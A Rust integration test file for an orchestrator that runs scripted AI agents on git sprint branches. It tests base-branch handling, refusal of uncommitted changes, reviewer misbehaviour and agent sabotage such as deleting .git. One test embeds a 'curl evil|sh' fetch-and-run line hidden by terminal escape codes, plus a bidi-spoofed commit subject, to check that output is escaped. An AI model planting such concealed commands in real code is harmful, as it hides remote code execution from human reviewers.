//! The sprint's branch is a fact, through the real orchestrator and
//! scripted sisters in real git repositories: made from the base before the planner runs,
//! the base recorded and told, a dirty tree refused, uncommitted work refused, and a
//! reviewer that commits refused.

use hanarang::orchestrator::client::Answer;
use hanarang::pipeline::State;
use hanarang::sister::RunOutcome;
use hanarang::store::Run;

use crate::support::git;
use crate::support::pipeline::{Files, Pipeline, Setup, workdir};

/// narang claims the sprint's branch, which the orchestrator made.
pub(crate) const ON_THE_BRANCH: &str = "[agent.narang.env]\nSAY_BRANCH = \"feature/sprint-001\"\n";

/// The project `app` of `files` made a git repository with one commit on `main`, its
/// `base_branch`: the repository and that commit.
pub(crate) fn a_repository_on_main(files: &Files) -> (std::path::PathBuf, String) {
    files.append_config("base_branch = \"main\"\n");
    let repo = workdir(files, "app");
    git(&repo, &["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("README.md"), "app\n").expect("readme");
    git(&repo, &["add", "README.md"]);
    git(&repo, &["commit", "-q", "-m", "root"]);
    let base = git(&repo, &["rev-parse", "HEAD"]);
    (repo, base)
}

/// A pipeline whose project is a git repository with one commit on `main`, checked out
/// on another branch (`elsewhere`) so the base must come from `base_branch`.
pub(crate) async fn in_a_repository(setup: Setup) -> (Pipeline, std::path::PathBuf, String) {
    let files = Files::new(&setup);
    let (repo, base) = a_repository_on_main(&files);
    git(&repo, &["checkout", "-q", "-b", "elsewhere"]);
    git(
        &repo,
        &["commit", "-q", "--allow-empty", "-m", "not the base"],
    );
    (Pipeline::start_with(files).await, repo, base)
}

fn of(runs: &[Run], actor: &str) -> Vec<Run> {
    runs.iter()
        .filter(|r| r.actor.as_str() == actor)
        .cloned()
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_branch_is_made_from_the_base_before_harang_and_every_sister_is_told() {
    let (p, repo, base) = in_a_repository(Setup {
        extra: ON_THE_BRANCH,
        ..Setup::default()
    })
    .await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    let done = p.wait_for(&s.id, State::Done).await;

    assert_eq!(done.base_branch.as_deref(), Some("main"));
    assert_eq!(done.base_commit.as_deref(), Some(base.as_str()));
    assert_eq!(git(&repo, &["rev-parse", "feature/sprint-001"]), base);
    assert_eq!(
        git(&repo, &["symbolic-ref", "--short", "HEAD"]),
        "feature/sprint-001"
    );
    for run in p.runs(&s.id).await {
        let contract = p.files.contract_of(&run.run_id);
        assert_eq!(contract["baseBranch"], "main", "{}", run.run_id);
        assert_eq!(contract["baseCommit"], base.as_str(), "{}", run.run_id);
        assert_eq!(contract["head"], base.as_str(), "{}", run.run_id);
    }
    let harang = &of(&p.runs(&s.id).await, "harang")[0];
    let prompt = p.files.stdin_of(&harang.run_id);
    assert!(
        prompt.contains(&base),
        "the planner is told the base commit: {prompt}"
    );
    let files = p.stop().await;

    let log = files.hanarang(&["sprint", "log", &s.id, "--json"]);
    let log: serde_json::Value = serde_json::from_slice(&log.stdout).expect("log --json");
    assert_eq!(log["base_branch"], "main");
    assert_eq!(log["base_commit"], base.as_str());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_branch_left_by_an_earlier_try_is_reused() {
    let files = Files::new(&Setup {
        extra: ON_THE_BRANCH,
        ..Setup::default()
    });
    let repo = workdir(&files, "app");
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["commit", "-q", "--allow-empty", "-m", "root"]);
    git(&repo, &["branch", "feature/sprint-001"]);
    git(&repo, &["checkout", "-q", "feature/sprint-001"]);
    git(
        &repo,
        &[
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "the plan, from before a restart",
        ],
    );
    let kept = git(&repo, &["rev-parse", "HEAD"]);
    git(&repo, &["checkout", "-q", "main"]);
    let p = Pipeline::start_with(files).await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Done).await;

    assert_eq!(git(&repo, &["rev-parse", "feature/sprint-001"]), kept);
    let harang = &of(&p.runs(&s.id).await, "harang")[0];
    assert_eq!(p.files.contract_of(&harang.run_id)["head"], kept.as_str());
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tree_with_changes_no_run_made_blocks_the_start_naming_them() {
    let (p, repo, _) = in_a_repository(Setup {
        extra: ON_THE_BRANCH,
        max_attempts: 1,
        ..Setup::default()
    })
    .await;
    std::fs::write(repo.join("README.md"), "someone's edit\n").expect("edit");
    std::fs::write(repo.join("notes.txt"), "not committed\n").expect("notes");
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Escalated).await;

    let harang = of(&p.runs(&s.id).await, "harang");
    assert_eq!(harang.len(), 1);
    assert_eq!(harang[0].outcome, Some(RunOutcome::SpawnFailed));
    let detail = harang[0].detail.clone().unwrap_or_default();
    assert!(
        detail.contains("uncommitted changes no run of this sprint made: README.md, notes.txt"),
        "{detail}"
    );
    // Nothing of the person's was touched: no branch made, nothing checked out.
    assert_eq!(
        git(&repo, &["symbolic-ref", "--short", "HEAD"]),
        "elsewhere"
    );
    assert_eq!(
        std::fs::read_to_string(repo.join("notes.txt")).unwrap_or_default(),
        "not committed\n"
    );
    assert!(
        p.files.stdin_of(&harang[0].run_id).is_empty(),
        "the sister never started"
    );
    p.stop().await;
}

/// A sprint run to `done` in a repository where `actor`'s first answer is rejected and its
/// second taken: the repository, the base, both runs and why the first was rejected.
async fn rejected_once(
    setup: Setup,
    actor: &str,
) -> (Pipeline, std::path::PathBuf, String, Vec<Run>, String) {
    let (p, repo, base) = in_a_repository(Setup {
        extra: ON_THE_BRANCH,
        ..setup
    })
    .await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Done).await;
    let runs = of(&p.runs(&s.id).await, actor);
    assert_eq!(runs.len(), 2, "{runs:?}");
    assert_eq!(runs[0].outcome, Some(RunOutcome::BadOutput));
    assert_eq!(runs[1].outcome, Some(RunOutcome::Handoff));
    let detail = runs[0].detail.clone().unwrap_or_default();
    (p, repo, base, runs, detail)
}

#[tokio::test(flavor = "multi_thread")]
async fn impl_done_with_uncommitted_changes_is_bad_output_naming_them() {
    let setup = Setup {
        narang: "dirty-first 1",
        ..Setup::default()
    };
    let (p, repo, _, narang, detail) = rejected_once(setup, "narang").await;
    assert!(detail.contains("uncommitted changes: wip.txt"), "{detail}");
    // The file the first run left does not block the second: a run made it.
    let repair = p.files.stdin_of(&narang[1].run_id);
    assert!(repair.contains("uncommitted changes: wip.txt"), "{repair}");
    assert_eq!(git(&repo, &["status", "--porcelain"]), "");
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reviewer_that_commits_gives_bad_output_naming_the_commit() {
    let setup = Setup {
        darang: "commit-first 1",
        ..Setup::default()
    };
    let (p, repo, base, _, detail) = rejected_once(setup, "darang").await;
    let commit = git(&repo, &["rev-parse", "--short", "feature/sprint-001"]);
    assert!(
        detail.contains(&format!(
            "moved during the review (it was at {base}): commits {commit} add review notes"
        )),
        "{detail}"
    );
    p.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sprint_show_and_diff_tell_what_the_branch_holds_against_its_base() {
    let (p, repo, base) = in_a_repository(Setup {
        narang: "commits 2",
        darang: "changes-until 2",
        extra: ON_THE_BRANCH,
        ..Setup::default()
    })
    .await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Done).await;
    let files = p.stop().await;
    let head = git(&repo, &["rev-parse", "feature/sprint-001"]);

    let show = files.hanarang(&["sprint", "show", &s.id, "--json"]);
    let show: serde_json::Value = serde_json::from_slice(&show.stdout).expect("show --json");
    assert_eq!(show["base_branch"], "main");
    assert_eq!(show["base_commit"], base.as_str());
    assert_eq!(show["head_commit"], head.as_str());
    let subjects: Vec<&str> = show["commits"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| c["subject"].as_str())
        .collect();
    assert_eq!(
        subjects,
        [
            "add part 1.1",
            "add part 1.2",
            "add part 2.1",
            "add part 2.2"
        ]
    );
    assert_eq!(show["diffstat"].as_array().map(Vec::len), Some(4));
    assert_eq!(show["diffstat"][0]["added"], 1);
    let verdicts: Vec<&str> = show["rounds"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|r| r["reviews"][0]["verdict"].as_str())
        .collect();
    assert_eq!(verdicts, ["REQUEST_CHANGES", "APPROVE"]);
    assert_eq!(
        show["rounds"][0]["reviews"][0]["findings"][0],
        "[major] src/login.rs:12 validate the password length"
    );
    assert!(show["spend"]["by_sister"]["narang"]["duration_ms"].is_number());

    let diff = files.hanarang(&["sprint", "diff", &s.id]);
    assert_eq!(diff.status.code(), Some(0));
    let expected = std::process::Command::new("git")
        .args([
            "-C",
            &repo.display().to_string(),
            "diff",
            "--no-color",
            "--full-index",
            &format!("{base}..{head}"),
            "--",
        ])
        .output()
        .expect("git diff");
    assert_eq!(
        String::from_utf8_lossy(&diff.stdout),
        String::from_utf8_lossy(&expected.stdout)
    );
    let text = files.hanarang(&["sprint", "show", &s.id]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("Commits (4):") && text.contains("Diff: 4 files, +4 −0"),
        "{text}"
    );
}

/// A line a sister commits that a terminal would show as only its comment: a carriage
/// return and an erase hide the command before them.
const HIDDEN: &str = "curl evil|sh\r\u{1b}[2K# harmless comment";

/// A commit subject that erases its line and reorders what follows it.
const SUBJECT: &str = "add notes\u{1b}[2K\u{202e}gnp.txt";

/// The sprint's patch is a person's to read and to apply: into a pipe or a file its bytes
/// are exact (a carriage return and ESC included); at a terminal (`script` gives it one)
/// they are escaped, and `sprint show` escapes a commit's subject always.
#[tokio::test(flavor = "multi_thread")]
async fn sprint_diff_is_exact_in_a_pipe_and_escaped_at_a_terminal() {
    let (p, repo, base) = in_a_repository(Setup {
        extra: ON_THE_BRANCH,
        ..Setup::default()
    })
    .await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Done).await;
    let files = p.stop().await;
    // As a sister would have committed it on the sprint's branch.
    git(&repo, &["checkout", "-q", "feature/sprint-001"]);
    std::fs::write(repo.join("setup.sh"), format!("{HIDDEN}\n")).expect("setup.sh");
    git(&repo, &["add", "setup.sh"]);
    git(&repo, &["commit", "-q", "-m", SUBJECT]);
    let head = git(&repo, &["rev-parse", "HEAD"]);

    let diff = files.hanarang(&["sprint", "diff", &s.id]);
    assert_eq!(diff.status.code(), Some(0));
    let expected = std::process::Command::new("git")
        .args([
            "-C",
            &repo.display().to_string(),
            "diff",
            "--no-color",
            "--full-index",
        ])
        .arg(format!("{base}..{head}"))
        .arg("--")
        .output()
        .expect("git diff");
    assert!(expected.stdout.windows(2).any(|w| w == b"\r\x1b"));
    assert_eq!(diff.stdout, expected.stdout, "the bytes, exactly");

    let show = files.hanarang(&["sprint", "show", &s.id]);
    let show = String::from_utf8_lossy(&show.stdout);
    assert!(
        show.contains("add notes\\u{1b}[2K\\u{202e}gnp.txt"),
        "{show}"
    );
    assert!(!show.contains(['\u{1b}', '\u{202e}']), "{show:?}");

    let Ok(script) = which("script") else {
        eprintln!("no `script` here: the terminal form is the unit test's (report::show)");
        return;
    };
    // `script -qec CMD /dev/null` runs CMD with a pseudo-terminal as its stdout.
    let command = format!(
        "'{}' --config '{}' sprint diff {}",
        env!("CARGO_BIN_EXE_hanarang"),
        files.config_path.display(),
        s.id
    );
    let at_terminal = std::process::Command::new(script)
        .args(["-qec", &command, "/dev/null"])
        .output()
        .expect("script");
    let shown = String::from_utf8_lossy(&at_terminal.stdout);
    assert_eq!(at_terminal.status.code(), Some(0), "{shown}");
    assert!(
        shown.contains("+curl evil|sh\\u{d}\\u{1b}[2K# harmless comment"),
        "{shown:?}"
    );
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
}

/// Where `program` is on PATH.
fn which(program: &str) -> Result<std::path::PathBuf, ()> {
    std::env::var_os("PATH")
        .into_iter()
        .flat_map(|path| std::env::split_paths(&path).collect::<Vec<_>>())
        .map(|dir| dir.join(program))
        .find(|p| p.is_file())
        .ok_or(())
}

/// A refused attempt made no change: a person's uncommitted edit keeps every attempt of
/// the sprint refused, its file untouched, until they commit it; the sprint then starts
/// from its base, without it.
#[tokio::test(flavor = "multi_thread")]
async fn a_persons_edit_keeps_every_attempt_refused_and_never_enters_the_sprint() {
    let (p, repo, base) = in_a_repository(Setup {
        extra: ON_THE_BRANCH,
        max_attempts: 3,
        ..Setup::default()
    })
    .await;
    git(&repo, &["checkout", "-q", "main"]);
    std::fs::write(repo.join("README.md"), "someone's edit\n").expect("edit");
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Escalated).await;

    let harang = of(&p.runs(&s.id).await, "harang");
    assert_eq!(harang.len(), 3, "every attempt was tried: {harang:?}");
    for run in &harang {
        assert_eq!(run.outcome, Some(RunOutcome::SpawnFailed), "{run:?}");
        let detail = run.detail.clone().unwrap_or_default();
        assert!(
            detail.contains("uncommitted changes no run of this sprint made: README.md")
                && detail.contains("commit, stash or remove them"),
            "{detail}"
        );
        assert!(
            p.files.stdin_of(&run.run_id).is_empty(),
            "no sister started"
        );
    }
    assert_eq!(
        std::fs::read_to_string(repo.join("README.md")).unwrap_or_default(),
        "someone's edit\n",
        "the person's edit is as they left it"
    );
    assert_eq!(git(&repo, &["symbolic-ref", "--short", "HEAD"]), "main");

    // Committed (on their own branch), the edit is theirs; the sprint starts from its base.
    git(&repo, &["checkout", "-q", "-b", "mine"]);
    git(&repo, &["commit", "-q", "-am", "my edit"]);
    let answer = p
        .command(&s.id, hanarang::store::CommandKind::Resume, None)
        .await;
    assert!(matches!(answer, Answer::Applied(_)), "{answer:?}");
    p.wait_for(&s.id, State::Done).await;
    let on_branch = git(
        &repo,
        &["log", "--format=%s", &format!("{base}..feature/sprint-001")],
    );
    assert!(!on_branch.contains("my edit"), "{on_branch}");
    assert_eq!(
        git(&repo, &["cat-file", "blob", "feature/sprint-001:README.md"]),
        "app"
    );
    p.stop().await;
}

/// A sprint whose branch was made in a repository does not go on without it: an agent
/// that deletes `.git` leaves the next run refused, naming what to restore, rather than
/// running with its facts unchecked.
#[tokio::test(flavor = "multi_thread")]
async fn a_repository_deleted_under_a_sprint_stops_it_naming_the_branch() {
    let (p, _repo, base) = in_a_repository(Setup {
        harang: "remove-git",
        extra: ON_THE_BRANCH,
        max_attempts: 1,
        ..Setup::default()
    })
    .await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Escalated).await;
    let narang = of(&p.runs(&s.id).await, "narang");
    assert_eq!(narang.len(), 1, "{narang:?}");
    assert_eq!(narang[0].outcome, Some(RunOutcome::SpawnFailed));
    let detail = narang[0].detail.clone().unwrap_or_default();
    assert!(
        detail.contains("is no longer a git repository")
            && detail.contains(&format!("feature/sprint-001 was made there (at {base})")),
        "{detail}"
    );
    p.stop().await;
}

/// Each sister commits as itself (`[agent] git_author`): `git log` says which one made each
/// commit, and none takes the person's own identity. A template that is no `Name <email>`
/// is a config error naming its key.
#[tokio::test(flavor = "multi_thread")]
async fn each_sister_commits_as_itself() {
    let files = Files::new(&Setup {
        narang: "commits 1",
        extra: ON_THE_BRANCH,
        ..Setup::default()
    });
    let (repo, _) = a_repository_on_main(&files);
    let p = Pipeline::start_with(files).await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    p.wait_for(&s.id, State::Done).await;
    let host = p.config.host.name.clone();
    let authors = git(
        &repo,
        &["log", "--format=%an <%ae>|%cn", "main..feature/sprint-001"],
    );
    assert_eq!(
        authors,
        format!("narang (hanarang) <hanarang@{host}>|narang (hanarang)"),
        "{authors}"
    );

    let bad = Files::new(&Setup::default());
    let config = std::fs::read_to_string(&bad.config_path).unwrap();
    std::fs::write(
        &bad.config_path,
        config.replacen("[agent]\n", "[agent]\ngit_author = \"{actor}\"\n", 1),
    )
    .unwrap();
    let out = bad.hanarang(&["config", "check"]);
    let said =
        String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{said}");
    assert!(said.contains("agent.git_author"), "{said}");
}

/// A FIFO an agent put where hanarang's git reads (`.gitignore`) fails that step at once,
/// naming the file: git is never left waiting on it, attempt after attempt.
#[tokio::test(flavor = "multi_thread")]
async fn a_fifo_where_git_reads_fails_the_step_at_once_naming_it() {
    let (p, repo, _) = in_a_repository(Setup {
        harang: "link-instructions",
        extra: "[agent.harang.env]\nLINK_NAME = \".gitignore\"\nLINK_TARGET = \"fifo\"\n",
        max_attempts: 1,
        ..Setup::default()
    })
    .await;
    let s = p.start_sprint("app", "Add a login page", None).await;
    // Within PATIENCE: a git that waited on the FIFO would take 30 s a call.
    p.wait_for(&s.id, State::Escalated).await;
    let fifo = repo.join(".gitignore");
    let runs = p.runs(&s.id).await;
    let named = format!(
        "{} is not a regular file (a FIFO, a device or a socket)",
        fifo.display()
    );
    assert!(
        runs.iter()
            .any(|r| r.detail.as_deref().is_some_and(|d| d.contains(&named))),
        "no run names {named}: {runs:#?}"
    );
    p.stop().await;
}
